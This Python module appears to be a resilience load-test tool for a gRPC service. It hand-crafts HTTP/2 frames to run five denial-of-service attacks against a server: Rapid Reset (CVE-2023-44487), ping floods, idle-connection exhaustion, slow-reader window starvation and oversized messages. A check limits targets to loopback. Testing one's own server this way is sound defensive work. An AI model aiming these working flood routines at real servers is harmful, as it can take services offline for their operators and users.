"""Callers who mean harm, by hand-made HTTP/2: ``python -m loadtests.hostile ATTACK --target ...``.

* ``rapid_reset``: streams opened and reset at once (CVE-2023-44487).
* ``idle_connections``: connections by the thousand that say hello and nothing more.
* ``ping_flood``: PINGs without end.
* ``slow_reader``: calls with long answers on connections whose window never opens.
* ``large_messages``: requests that say they have 100 MB, and begin to send them.

``--per-second`` says how many streams or pings each connection sends, or how many idle connections
are opened; without it as many as one core can make.

For loopback only: it refuses any other target. The last line of output is JSON: what it did, and
how often the server hung up on it.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import json
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

from holdfast.v1 import inventory_service_pb2, reservation_service_pb2
from loadtests.light import frames

_CREATE = "/holdfast.v1.ReservationService/CreateReservation"
_LIST = "/holdfast.v1.InventoryService/ListInventoryPositions"
_STREAMS_PER_WRITE = 64
_PINGS_PER_WRITE = 256
_LARGE_BYTES = 100 * 2**20
_CANCEL = 0x8
_PAUSE_S = 0.05
_PAGE_ROWS = 1_000


class Attacker:
    """Opens connections and counts."""

    def __init__(self, target: str, *, per_second: float = 0.0) -> None:
        """`per_second`: of each connection, and of connections; 0: as fast as it goes."""
        self.host, _, port = target.rpartition(":")
        self.port = int(port)
        self.per_second = per_second
        self.counts: Counter[str] = Counter()

    async def connect(
        self, settings: dict[int, int] | None = None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection that has said hello."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        self.counts["connections"] += 1
        writer.write(frames.PREFACE + frames.settings(settings or {}))
        writer.write(frames.frame(frames.SETTINGS, frames.ACK, 0))
        await writer.drain()
        return reader, writer

    async def again_and_again(self, attack: Callable[[], Awaitable[None]]) -> None:
        """Attack, and come back whenever the server hangs up."""
        while True:
            with contextlib.suppress(OSError, EOFError):
                await attack()
            self.counts["hung_up_on"] += 1
            await asyncio.sleep(_PAUSE_S)

    def headers(self, path: str) -> bytes:
        """The header block of a call."""
        return b"".join(
            frames.literal(name, value)
            for name, value in (
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", f"{self.host}:{self.port}"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
            )
        )

    async def rapid_reset(self) -> None:
        reader, writer = await self.connect()
        hearing = asyncio.ensure_future(_hear(reader))
        request = reservation_service_pb2.CreateReservationRequest(owner="nobody")
        request.lines.add(sku="nothing", node="nowhere", quantity=1)
        message = request.SerializeToString()
        body = struct.pack(">BI", 0, len(message)) + message
        block = self.headers(_CREATE)
        stream = 1
        pace = _Pace(self.per_second)
        try:
            while not hearing.done():
                pieces = []
                for _ in range(_STREAMS_PER_WRITE):
                    pieces.append(
                        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
                        + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
                        + frames.reset(stream, _CANCEL)
                    )
                    stream += 2
                writer.write(b"".join(pieces))
                await writer.drain()
                self.counts["streams_reset"] += _STREAMS_PER_WRITE
                await pace.after(_STREAMS_PER_WRITE)
        finally:
            hearing.cancel()
            writer.close()

    async def idle_connection(self) -> None:
        reader, writer = await self.connect()
        try:
            await _hear(reader)
        finally:
            writer.close()

    async def ping_flood(self) -> None:
        reader, writer = await self.connect()
        hearing = asyncio.ensure_future(_hear(reader))
        pings = frames.frame(frames.PING, 0, 0, bytes(8)) * _PINGS_PER_WRITE
        pace = _Pace(self.per_second)
        try:
            while not hearing.done():
                writer.write(pings)
                await writer.drain()
                self.counts["pings"] += _PINGS_PER_WRITE
                await pace.after(_PINGS_PER_WRITE)
        finally:
            hearing.cancel()
            writer.close()

    async def slow_reader(self) -> None:
        reader, writer = await self.connect({frames.INITIAL_WINDOW_SIZE: 0})
        message = inventory_service_pb2.ListInventoryPositionsRequest(page_size=_PAGE_ROWS)
        data = message.SerializeToString()
        body = struct.pack(">BI", 0, len(data)) + data
        block = self.headers(_LIST)
        try:
            for stream in range(1, 2 * _STREAMS_PER_WRITE, 2):
                writer.write(
                    frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
                    + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
                )
                self.counts["answers_not_read"] += 1
            await writer.drain()
            await _hear(reader)
        finally:
            writer.close()

    async def large_message(self) -> None:
        reader, writer = await self.connect()
        hearing = asyncio.ensure_future(_hear(reader))
        block = self.headers(_CREATE)
        piece = bytes(frames.FRAME_BYTES_MAX)
        stream = 1
        try:
            while not hearing.done():
                writer.write(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
                writer.write(
                    frames.frame(frames.DATA, 0, stream, struct.pack(">BI", 0, _LARGE_BYTES))
                )
                self.counts["large_messages"] += 1
                for _ in range(3):  # as much as a window takes that was never opened further
                    writer.write(frames.frame(frames.DATA, 0, stream, piece))
                    self.counts["bytes_sent"] += len(piece)
                    await writer.drain()
                await asyncio.sleep(_PAUSE_S)
                writer.write(frames.reset(stream, _CANCEL))
                stream += 2
        finally:
            hearing.cancel()
            writer.close()


class _Pace:
    """So many a second, from its first moment on: what was late is made up for."""

    def __init__(self, per_second: float) -> None:
        self._per_second = per_second
        self._due_s = asyncio.get_running_loop().time()

    async def after(self, count: int) -> None:
        """Wait until `count` more are due."""
        if self._per_second:
            self._due_s += count / self._per_second
        await asyncio.sleep(max(0.0, self._due_s - asyncio.get_running_loop().time()))


async def _hear(reader: asyncio.StreamReader) -> None:
    """Read until the server hangs up, or says that it will."""
    cutter = frames.Reader()
    while data := await reader.read(65_536):
        for kind, _, _, _ in cutter.feed(data):
            if kind == frames.GOAWAY:
                return


async def attack(
    kind: str, target: str, *, seconds: float, connections: int, per_second: float = 0.0
) -> dict[str, Any]:
    """Attack for some seconds; what was done, and `hung_up_on`: how often the server ended it."""
    attacker = Attacker(target, per_second=per_second)
    one = {
        "rapid_reset": attacker.rapid_reset,
        "idle_connections": attacker.idle_connection,
        "ping_flood": attacker.ping_flood,
        "slow_reader": attacker.slow_reader,
        "large_messages": attacker.large_message,
    }[kind]
    until_s = asyncio.get_running_loop().time() + seconds
    pace = _Pace(per_second if kind == "idle_connections" else 0.0)
    tasks = []
    for _ in range(connections):
        tasks.append(asyncio.ensure_future(attacker.again_and_again(one)))
        await pace.after(1)
    await asyncio.sleep(max(0.0, until_s - asyncio.get_running_loop().time()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return dict(attacker.counts)


def _is_loopback(host: str) -> bool:
    try:
        return host == "localhost" or ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _number(kind: type[int] | type[float], low: int, high: int) -> Callable[[str], float]:
    """Reads an option, within the limits that a scenario has for it (`scenario.Event`)."""

    def read(text: str) -> float:
        with contextlib.suppress(ValueError):
            if low <= (value := kind(text)) <= high:  # false for NaN too
                return value
        whole = "a whole number" if kind is int else "a number"
        raise argparse.ArgumentTypeError(f"must be {whole} from {low} to {high:,}, not {text!r}")

    return read


def main(arguments: list[str]) -> int:
    """Attack a server on this machine."""
    parser = argparse.ArgumentParser(
        prog="python -m loadtests.hostile",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument(
        "attack",
        choices=("rapid_reset", "idle_connections", "ping_flood", "slow_reader", "large_messages"),
    )
    parser.add_argument("--target", required=True, help="HOST:PORT on loopback")
    parser.add_argument("--seconds", type=_number(float, 0, 3_600), default=10.0)
    parser.add_argument("--connections", type=_number(int, 1, 20_000), default=10)
    parser.add_argument(
        "--per-second",
        type=_number(float, 0, 1_000_000),
        default=0.0,
        help="0, the default: as fast as it goes",
    )
    parser.add_argument("--wait", action="store_true", help="for a line of standard input first")
    options = parser.parse_args(arguments)
    if not _is_loopback(options.target.rpartition(":")[0]):
        parser.error(f"--target {options.target}: only servers on loopback are attacked")
    if options.wait:
        sys.stdin.readline()
    told = asyncio.run(
        attack(
            options.attack,
            options.target,
            seconds=options.seconds,
            connections=options.connections,
            per_second=options.per_second,
        )
    )
    print(json.dumps(told), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
